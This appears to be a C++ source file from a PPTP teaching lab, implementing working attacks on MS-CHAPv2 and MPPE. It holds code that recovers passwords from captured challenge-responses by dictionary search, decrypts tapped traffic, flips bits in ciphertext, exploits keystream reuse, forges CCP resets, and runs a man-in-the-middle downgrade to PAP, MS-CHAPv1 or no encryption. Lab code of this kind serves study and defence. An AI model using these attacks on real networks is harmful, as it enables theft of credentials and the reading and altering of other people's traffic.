// SPDX-License-Identifier: GPL-2.0-or-later WITH OpenSSL-exception
#include "labs/attacks/attacks.h"

#include <algorithm>

#include "stack/crypto/des.h"
#include "stack/crypto/mppe_keys.h"
#include "stack/ppp/mppe.h"
#include "stack/wire/lcp.h"
#include "stack/wire/ppp.h"

namespace pptplab::labs::attacks {
namespace {

constexpr size_t kBlock = 8;  // of DES

crypto::DesBlock BlockOf(const crypto::NtResponse& response, size_t block) {
  crypto::DesBlock out{};
  std::copy_n(response.begin() + static_cast<long>(kBlock * block), kBlock, out.begin());
  return out;
}

// Codes of RFC 1661 §5 and RFC 1962 §5.
constexpr uint8_t kConfigureRequest = 1, kConfigureAck = 2, kProtocolReject = 8, kResetRequest = 14;
constexpr size_t kControlHeader = 4;

/// Mends the Length field after a change of size.
void SetLength(Bytes& packet) { StoreBe16(&packet[2], static_cast<uint16_t>(packet.size())); }

/// Where the option of this type begins; the size of the packet: it has none.
size_t FindOption(const Bytes& packet, uint8_t type) {
  size_t at = kControlHeader;
  while (at + 2 <= packet.size() && packet[at] != type) {
    if (packet[at + 1] < 2) return packet.size();
    at += packet[at + 1];
  }
  return at + 2 <= packet.size() && packet[at + 1] >= 2 && at + packet[at + 1] <= packet.size()
             ? at
             : packet.size();
}

void ReplaceOption(Bytes& packet, size_t at, const Bytes& option) {
  const auto from = packet.begin() + static_cast<long>(at);
  packet.erase(from, from + packet[at + 1]);
  packet.insert(packet.begin() + static_cast<long>(at), option.begin(), option.end());
  SetLength(packet);
}

}  // namespace

std::optional<std::array<uint8_t, 2>> FindK3(const Exchange& exchange) {
  const auto challenge = exchange.challenge_hash();
  const crypto::DesBlock wanted = BlockOf(exchange.nt_response(), 2);
  std::array<uint8_t, 7> key{};  // the other five octets are zeros
  for (uint32_t candidate = 0; candidate <= 0xffff; ++candidate) {
    StoreBe16(key.data(), static_cast<uint16_t>(candidate));
    if (crypto::DesEncrypt(challenge, key) == wanted) return std::array{key[0], key[1]};
  }
  return std::nullopt;
}

std::optional<FoundWord> TryWords(const Exchange& exchange,
                                  const std::vector<std::string_view>& words) {
  const auto k3 = FindK3(exchange);
  if (!k3) return std::nullopt;
  const auto challenge = exchange.challenge_hash();
  FoundWord found;
  for (const std::string_view word : words) {
    ++found.tried;
    const crypto::PasswordHash hash = crypto::NtPasswordHash(word);
    if (hash[14] != (*k3)[0] || hash[15] != (*k3)[1]) continue;
    ++found.passed;
    if (crypto::ChallengeResponse(challenge, hash) != exchange.nt_response()) continue;
    found.password = word;
    return found;
  }
  return std::nullopt;
}

std::optional<Bytes> Decrypt(const Exchange& exchange, std::string_view password,
                             const Tapped& packet) {
  if (packet.protocol() != wire::kPppCompressedDatagram) return std::nullopt;
  const auto master = crypto::GetMasterKey(
      crypto::HashNtPasswordHash(crypto::NtPasswordHash(password)), exchange.nt_response());
  const auto use =
      packet.from_client() ? crypto::KeyUse::kClientToServer : crypto::KeyUse::kServerToClient;
  ppp::MppeReceiver receiver({}, crypto::GetAsymmetricStartKey(master, 128, use));
  Pdu pdu(packet.information());
  if (receiver.Decrypt(pdu).dropped) return std::nullopt;
  return ToBytes(pdu.bytes());
}

std::optional<Bytes> FlipText(const Tapped& packet, size_t at, std::string_view now,
                              std::string_view then) {
  Bytes out = ToBytes(packet.information());
  const size_t clear = out.size() - std::min(out.size(), wire::MppeHeader::kSize);
  if (now.size() != then.size() || at > clear || now.size() > clear - at) return std::nullopt;
  const size_t from = wire::MppeHeader::kSize + at;
  for (size_t i = 0; i < now.size(); ++i) {
    out[from + i] = static_cast<uint8_t>(out[from + i] ^ now[i] ^ then[i]);
  }
  return out;
}

Bytes ReadBySameKeyStream(const Tapped& known, ByteView clear, const Tapped& unknown) {
  constexpr size_t kHeader = wire::MppeHeader::kSize;
  if (known.information().size() < kHeader || unknown.information().size() < kHeader) return {};
  const ByteView a = known.information().subspan(kHeader);
  const ByteView b = unknown.information().subspan(kHeader);
  Bytes out(std::min({a.size(), b.size(), clear.size()}));
  for (size_t i = 0; i < out.size(); ++i) out[i] = static_cast<uint8_t>(a[i] ^ clear[i] ^ b[i]);
  return out;
}

ppp::ControlFrame ForgedResetRequest(uint8_t identifier) {
  return {wire::kPppCcp, {kResetRequest, identifier, 0, kControlHeader}, 0};
}

Downgrader::Downgrader(Link& link, Downgrade what) : link_(link), what_(what) {
  if (what_ == Downgrade::kPap) instead_ = {3, 4, 0xc0, 0x23};
  if (what_ == Downgrade::kMsChapV1) instead_ = {3, 5, 0xc2, 0x23, 0x80};
}

bool Downgrader::operator()(bool from_client, ppp::ControlFrame& frame) {
  return what_ == Downgrade::kNoEncryption ? RejectCcp(from_client, frame)
                                           : ReplaceMethod(from_client, frame);
}

/// The server asks for MS-CHAPv2, the client hears of a weaker method, and its agreement reaches
/// the server as agreement to MS-CHAPv2.
bool Downgrader::ReplaceMethod(bool from_client, ppp::ControlFrame& frame) {
  constexpr uint8_t kAuthenticationProtocol = 3;
  if (frame.protocol != wire::kPppLcp || frame.packet.size() < kControlHeader) return true;
  const size_t at = FindOption(frame.packet, kAuthenticationProtocol);
  if (at == frame.packet.size()) return true;
  if (!from_client && frame.packet[0] == kConfigureRequest) {
    const auto from = frame.packet.begin() + static_cast<long>(at);
    offered_.assign(from, from + frame.packet[at + 1]);
    ReplaceOption(frame.packet, at, instead_);
  } else if (from_client && frame.packet[0] == kConfigureAck && !offered_.empty()) {
    ReplaceOption(frame.packet, at, offered_);
  }
  return true;
}

/// Each end hears from "the other" that it does not know CCP at all (RFC 1661 §5.7).
bool Downgrader::RejectCcp(bool from_client, const ppp::ControlFrame& frame) {
  if (frame.protocol != wire::kPppCcp) return true;
  Bytes reject{kProtocolReject, 0x77, 0, 0, 0x80, 0xfd};
  reject.insert(reject.end(), frame.packet.begin(), frame.packet.end());
  SetLength(reject);
  link_.Inject(!from_client, {wire::kPppLcp, std::move(reject), 0});
  return false;
}

std::optional<std::string> PapPassword(const Wiretap& tap) {
  for (const Tapped& packet : tap.packets()) {
    if (packet.protocol() != wire::kPppPap || packet.information().size() < kControlHeader ||
        packet.information()[0] != wire::kPapRequest) {
      continue;
    }
    const auto request =
        ReadPrefix<wire::PapRequestData>(packet.information().subspan(kControlHeader));
    if (request) return std::string(AsText(request->value.password));
  }
  return std::nullopt;
}

}  // namespace pptplab::labs::attacks
